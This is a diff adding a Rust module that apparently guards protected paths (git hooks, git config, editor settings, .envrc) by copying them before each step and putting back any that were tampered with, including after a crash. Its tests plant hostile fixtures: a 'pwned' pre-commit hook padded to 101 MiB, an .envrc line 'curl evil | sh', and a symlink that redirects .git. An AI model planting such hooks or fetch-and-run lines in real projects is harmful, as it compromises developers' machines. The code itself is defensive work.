@@ -1,0 +1,477 @@
+//! Pre-step copies of the protected paths (policy, git hooks and config, editor and agent
+//! configuration): what the put-back restores from, checked by content itself, never through
+//! the snapshot. So a hook padded past the size limit (a marker in the snapshot), a step whose
+//! snapshot fails (a tree too deep, a full disk), or an envgit ended by a signal still gets its
+//! protected paths put back; and because the copy lives in the store with a lock its owner
+//! holds, the next envgit command puts them back after a SIGKILL, an OOM kill or a panic.
+//!
+//! Every host-side operation walks beneath the project root without following a symlink.
+
+use std::ffi::CString;
+use std::io::{Read, Write};
+use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
+use std::path::{Path, PathBuf};
+
+use rustix::fs::{AtFlags, FileType, Mode, OFlags};
+use rustix::io::Errno;
+use serde::{Deserialize, Serialize};
+
+use crate::beneath::{
+    cstr, file_type, lstat, open_dir_rel, open_file, open_root, read_names, remove_all,
+};
+use crate::error::{IoContext, Result, StoreError};
+use crate::lock::Flock;
+
+/// The most a guard copies of all protected paths together; a protected tree larger than this
+/// before the step is refused with the reason (rather than left unguarded).
+pub const GUARD_MAX_BYTES: u64 = 64 << 20;
+
+/// One entry of a protected path as it was, `rel` relative to the project root.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+enum Kind {
+    Dir,
+    File {
+        content: Vec<u8>,
+    },
+    Symlink {
+        target: Vec<u8>,
+    },
+    /// A socket, fifo or device: kept as "something else", put back as absent.
+    Other,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct Entry {
+    rel: Vec<u8>,
+    mode: u32,
+    kind: Kind,
+}
+
+/// The state of one protected path: `None` when it did not exist.
+type State = Option<Vec<Entry>>;
+
+#[derive(Debug, Serialize, Deserialize)]
+struct Saved {
+    root: PathBuf,
+    paths: Vec<String>,
+    states: Vec<State>,
+}
+
+/// A pre-step copy, held (locked) by the process that took it.
+pub struct ProtectedCopy {
+    dir: PathBuf,
+    saved: Saved,
+    _lock: Flock,
+}
+
+fn guard_root(store_dir: &Path) -> PathBuf {
+    store_dir.join("guard")
+}
+
+impl ProtectedCopy {
+    /// Copies every path of `paths` (relative to `root`) as it is now into the store.
+    pub fn take(store_dir: &Path, root: &Path, paths: &[String]) -> Result<ProtectedCopy> {
+        let fd = open_root(root).at(root)?;
+        let mut budget = GUARD_MAX_BYTES;
+        let mut states = Vec::with_capacity(paths.len());
+        for p in paths {
+            let state = capture(fd.as_fd(), p.as_bytes(), &mut budget).map_err(|e| match e {
+                Captured::TooLarge => StoreError::Refused(format!(
+                    "{}: the protected paths are over {} MiB together; envgit copies them before each step to put them back, so make them smaller",
+                    root.join(p).display(),
+                    GUARD_MAX_BYTES >> 20
+                )),
+                Captured::Io(e) => StoreError::Io {
+                    path: root.join(p),
+                    source: e.into(),
+                },
+            })?;
+            states.push(state);
+        }
+        let base = guard_root(store_dir);
+        std::fs::create_dir_all(&base).at(&base)?;
+        let dir = base.join(format!(
+            "{}-{}",
+            std::process::id(),
+            crate::pack::random_u64()
+        ));
+        std::fs::create_dir(&dir).at(&dir)?;
+        let lock = Flock::exclusive(&dir.join("lock"))?;
+        let saved = Saved {
+            root: root.to_path_buf(),
+            paths: paths.to_vec(),
+            states,
+        };
+        let file = dir.join("copy.json");
+        let mut f = std::fs::File::create(&file).at(&file)?;
+        let bytes = serde_json::to_vec(&saved).map_err(|e| StoreError::corrupt(e.to_string()))?;
+        f.write_all(&bytes).at(&file)?;
+        f.sync_data().at(&file)?;
+        Ok(ProtectedCopy {
+            dir,
+            saved,
+            _lock: lock,
+        })
+    }
+
+    /// Puts back every protected path that differs from its copy, by content; returns the
+    /// paths put back (and only those).
+    pub fn put_back(&self) -> Result<Vec<String>> {
+        let root = &self.saved.root;
+        let fd = open_root(root).at(root)?;
+        let mut changed = Vec::new();
+        for (p, was) in self.saved.paths.iter().zip(&self.saved.states) {
+            // Read no more of what is there now than the copy holds, plus one byte.
+            let mut budget = was.as_ref().map_or(0, |es| size_of(es)) + 1;
+            let now = capture(fd.as_fd(), p.as_bytes(), &mut budget);
+            if matches!(&now, Ok(now) if now == was) {
+                continue;
+            }
+            restore(fd.as_fd(), p.as_bytes(), was.as_deref()).at(&root.join(p))?;
+            changed.push(p.clone());
+        }
+        Ok(changed)
+    }
+
+    /// The copy is no longer needed (the step's put-back ran).
+    pub fn discard(self) {
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// Copies left by envgit processes that are gone (killed, crashed) for the project at
+/// `root`: each put back now, then removed. Returns what was put back.
+pub fn recover(store_dir: &Path, root: &Path) -> Result<Vec<String>> {
+    let base = guard_root(store_dir);
+    let Ok(entries) = std::fs::read_dir(&base) else {
+        return Ok(Vec::new());
+    };
+    let mut out = Vec::new();
+    for entry in entries.flatten() {
+        let dir = entry.path();
+        // Held by a live process: its own put-back will run.
+        let Some(lock) = Flock::try_exclusive(&dir.join("lock"))? else {
+            continue;
+        };
+        let file = dir.join("copy.json");
+        let saved: Saved = match std::fs::read(&file) {
+            Ok(bytes) => match serde_json::from_slice(&bytes) {
+                Ok(s) => s,
+                // Written only partly before its owner died: the step had not started.
+                Err(_) => {
+                    let _ = std::fs::remove_dir_all(&dir);
+                    continue;
+                }
+            },
+            Err(_) => {
+                let _ = std::fs::remove_dir_all(&dir);
+                continue;
+            }
+        };
+        if saved.root != root {
+            continue;
+        }
+        let copy = ProtectedCopy {
+            dir,
+            saved,
+            _lock: lock,
+        };
+        out.extend(copy.put_back()?);
+        copy.discard();
+    }
+    Ok(out)
+}
+
+fn size_of(entries: &[Entry]) -> u64 {
+    entries
+        .iter()
+        .map(|e| match &e.kind {
+            Kind::File { content } => content.len() as u64,
+            Kind::Symlink { target } => target.len() as u64,
+            _ => 0,
+        } + 64)
+        .sum()
+}
+
+enum Captured {
+    TooLarge,
+    Io(Errno),
+}
+
+impl From<Errno> for Captured {
+    fn from(e: Errno) -> Self {
+        Captured::Io(e)
+    }
+}
+
+fn split_parent(rel: &[u8]) -> (&[u8], &[u8]) {
+    match rel.iter().rposition(|&b| b == b'/') {
+        Some(i) => (&rel[..i], &rel[i + 1..]),
+        None => (b"", rel),
+    }
+}
+
+/// The path `rel` and everything under it, walked without recursion and without following a
+/// symlink; `None` when it (or a parent) is not there or a parent is not a directory.
+fn capture(root: BorrowedFd<'_>, rel: &[u8], budget: &mut u64) -> Result<State, Captured> {
+    let (parent, name) = split_parent(rel);
+    let parent_fd = match open_dir_rel(root, parent) {
+        Ok(fd) => fd,
+        Err(Errno::NOENT | Errno::NOTDIR | Errno::LOOP | Errno::XDEV) => return Ok(None),
+        Err(e) => return Err(e.into()),
+    };
+    let name = cstr(name)?;
+    let Some(top) = entry_of(parent_fd.as_fd(), &name, rel, budget)? else {
+        return Ok(None);
+    };
+    let mut out = vec![top];
+    let mut pending: Vec<Vec<u8>> = Vec::new();
+    if out[0].kind == Kind::Dir {
+        pending.push(rel.to_vec());
+    }
+    while let Some(dir_rel) = pending.pop() {
+        let dir = open_dir_rel(root, &dir_rel)?;
+        for child in read_names(dir.as_fd())? {
+            let mut child_rel = dir_rel.clone();
+            child_rel.push(b'/');
+            child_rel.extend_from_slice(child.to_bytes());
+            if let Some(e) = entry_of(dir.as_fd(), &child, &child_rel, budget)? {
+                if e.kind == Kind::Dir {
+                    pending.push(child_rel);
+                }
+                out.push(e);
+            }
+        }
+    }
+    out.sort_by(|a, b| a.rel.cmp(&b.rel));
+    Ok(Some(out))
+}
+
+fn entry_of(
+    dir: BorrowedFd<'_>,
+    name: &CString,
+    rel: &[u8],
+    budget: &mut u64,
+) -> Result<Option<Entry>, Captured> {
+    let st = match lstat(dir, name) {
+        Ok(st) => st,
+        Err(Errno::NOENT) => return Ok(None),
+        Err(e) => return Err(e.into()),
+    };
+    let mode = st.st_mode & 0o7777;
+    let charge = |budget: &mut u64, n: u64| {
+        if n > *budget {
+            return Err(Captured::TooLarge);
+        }
+        *budget -= n;
+        Ok(())
+    };
+    let kind = match file_type(&st) {
+        FileType::Directory => Kind::Dir,
+        FileType::Symlink => {
+            let target = rustix::fs::readlinkat(dir, name.as_c_str(), Vec::new())?;
+            charge(budget, target.as_bytes().len() as u64)?;
+            Kind::Symlink {
+                target: target.into_bytes(),
+            }
+        }
+        FileType::RegularFile => {
+            // Sparse or not, the bytes count: a hook padded to 101 MiB is read only as far as
+            // the budget, and then it differs.
+            charge(budget, u64::try_from(st.st_size).unwrap_or(u64::MAX))?;
+            let fd: OwnedFd = open_file(dir, name)?;
+            let mut content = Vec::new();
+            std::fs::File::from(fd)
+                .read_to_end(&mut content)
+                .map_err(|e| Captured::Io(Errno::from_io_error(&e).unwrap_or(Errno::IO)))?;
+            Kind::File { content }
+        }
+        _ => Kind::Other,
+    };
+    Ok(Some(Entry {
+        rel: rel.to_vec(),
+        mode,
+        kind,
+    }))
+}
+
+/// Makes `rel` what `was` says: its parents real directories (a symlink or file planted in
+/// their place removed), whatever is there now removed, then the copy written back.
+fn restore(root: BorrowedFd<'_>, rel: &[u8], was: Option<&[Entry]>) -> rustix::io::Result<()> {
+    let (parent, name) = split_parent(rel);
+    let parent_fd = real_dirs(root, parent)?;
+    let cname = cstr(name)?;
+    remove_all(parent_fd.as_fd(), &cname, rel, &|_| false)?;
+    let Some(entries) = was else {
+        return Ok(());
+    };
+    for e in entries {
+        let (p, n) = split_parent(&e.rel);
+        let dir = open_dir_rel(root, p)?;
+        let n = cstr(n)?;
+        let mode = Mode::from_raw_mode(e.mode);
+        match &e.kind {
+            Kind::Dir => rustix::fs::mkdirat(dir.as_fd(), &n, mode)?,
+            Kind::Symlink { target } => {
+                rustix::fs::symlinkat(cstr(target)?.as_c_str(), dir.as_fd(), &n)?
+            }
+            Kind::File { content } => {
+                let fd = rustix::fs::openat(
+                    dir.as_fd(),
+                    &n,
+                    OFlags::WRONLY
+                        | OFlags::CREATE
+                        | OFlags::EXCL
+                        | OFlags::NOFOLLOW
+                        | OFlags::CLOEXEC,
+                    mode,
+                )?;
+                let mut f = std::fs::File::from(fd);
+                f.write_all(content)
+                    .map_err(|e| Errno::from_io_error(&e).unwrap_or(Errno::IO))?;
+                // The umask may have narrowed it.
+                rustix::fs::fchmod(&f, mode)?;
+            }
+            Kind::Other => {}
+        }
+        if e.kind == Kind::Dir {
+            let d = open_dir_rel(root, &e.rel)?;
+            rustix::fs::fchmod(&d, mode)?;
+        }
+    }
+    Ok(())
+}
+
+/// Opens `rel` as a directory, making each component a real directory first (removing a
+/// symlink or file that stands where a parent of a protected path should be).
+fn real_dirs(root: BorrowedFd<'_>, rel: &[u8]) -> rustix::io::Result<OwnedFd> {
+    let mut cur = open_dir_rel(root, b"")?;
+    for part in rel.split(|&b| b == b'/').filter(|p| !p.is_empty()) {
+        let name = cstr(part)?;
+        match lstat(cur.as_fd(), &name) {
+            Ok(st) if file_type(&st) == FileType::Directory => {}
+            Ok(_) => {
+                rustix::fs::unlinkat(cur.as_fd(), &name, AtFlags::empty())?;
+                rustix::fs::mkdirat(cur.as_fd(), &name, Mode::from_raw_mode(0o755))?;
+            }
+            Err(Errno::NOENT) => {
+                rustix::fs::mkdirat(cur.as_fd(), &name, Mode::from_raw_mode(0o755))?
+            }
+            Err(e) => return Err(e),
+        }
+        cur = crate::beneath::open_subdir(cur.as_fd(), &name)?;
+    }
+    Ok(cur)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::os::unix::fs::PermissionsExt;
+
+    use super::*;
+
+    fn paths() -> Vec<String> {
+        [".git/hooks", ".git/config", ".vscode", ".envrc"]
+            .iter()
+            .map(|s| (*s).to_owned())
+            .collect()
+    }
+
+    fn project() -> (tempfile::TempDir, PathBuf, PathBuf) {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().join("p");
+        let store = tmp.path().join("s");
+        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        std::fs::create_dir_all(&store).unwrap();
+        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
+        std::fs::set_permissions(
+            root.join(".git/hooks/pre-commit"),
+            std::fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+        (tmp, root, store)
+    }
+
+    /// `mv .git .g && mkdir .git && cp -a .g/. .git/`, then a hook padded past any snapshot
+    /// limit with a sparse file: put back by content, with its mode.
+    #[test]
+    fn a_padded_hook_behind_a_renamed_git_is_put_back() {
+        let (_t, root, store) = project();
+        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
+        std::fs::rename(root.join(".git"), root.join(".g")).unwrap();
+        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        std::fs::copy(root.join(".g/config"), root.join(".git/config")).unwrap();
+        let hook = root.join(".git/hooks/pre-commit");
+        std::fs::write(&hook, "#!/bin/sh\necho pwned > /tmp/marker\n").unwrap();
+        let f = std::fs::OpenOptions::new().write(true).open(&hook).unwrap();
+        f.set_len(101 << 20).unwrap();
+        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        let back = copy.put_back().unwrap();
+        assert_eq!(back, [".git/hooks", ".envrc"]);
+        assert_eq!(
+            std::fs::read_to_string(&hook).unwrap(),
+            "#!/bin/sh\nexit 0\n"
+        );
+        let mode = std::fs::metadata(&hook).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o755);
+        assert!(!root.join(".envrc").exists());
+        // Nothing else differs now: a second put-back puts nothing back.
+        assert!(copy.put_back().unwrap().is_empty());
+        copy.discard();
+    }
+
+    /// A symlink planted where `.git` was, pointing out of the project: replaced by a real
+    /// directory, and nothing outside is touched.
+    #[test]
+    fn a_parent_replaced_by_a_symlink_is_made_a_directory_again() {
+        let (t, root, store) = project();
+        let outside = t.path().join("outside");
+        std::fs::create_dir_all(outside.join("hooks")).unwrap();
+        std::fs::write(outside.join("hooks/pre-commit"), "evil").unwrap();
+        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
+        std::fs::rename(root.join(".git"), root.join(".g")).unwrap();
+        std::os::unix::fs::symlink(&outside, root.join(".git")).unwrap();
+        let back = copy.put_back().unwrap();
+        assert_eq!(back, [".git/hooks", ".git/config"]);
+        assert!(
+            std::fs::symlink_metadata(root.join(".git"))
+                .unwrap()
+                .is_dir()
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
+            "#!/bin/sh\nexit 0\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(outside.join("hooks/pre-commit")).unwrap(),
+            "evil"
+        );
+    }
+
+    /// The taker died (its lock is gone): the next command puts back from the store.
+    #[test]
+    fn a_copy_left_by_a_dead_process_is_put_back_by_the_next_command() {
+        let (_t, root, store) = project();
+        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
+        std::fs::write(root.join(".git/hooks/pre-commit"), "evil").unwrap();
+        // While its owner holds it, nobody else touches it.
+        assert!(recover(&store, &root).unwrap().is_empty());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
+            "evil"
+        );
+        drop(copy); // as a SIGKILL would: the lock released, the copy left behind
+        assert_eq!(recover(&store, &root).unwrap(), [".git/hooks"]);
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
+            "#!/bin/sh\nexit 0\n"
+        );
+        assert!(
+            std::fs::read_dir(store.join("guard"))
+                .unwrap()
+                .next()
+                .is_none()
+        );
+    }
+}
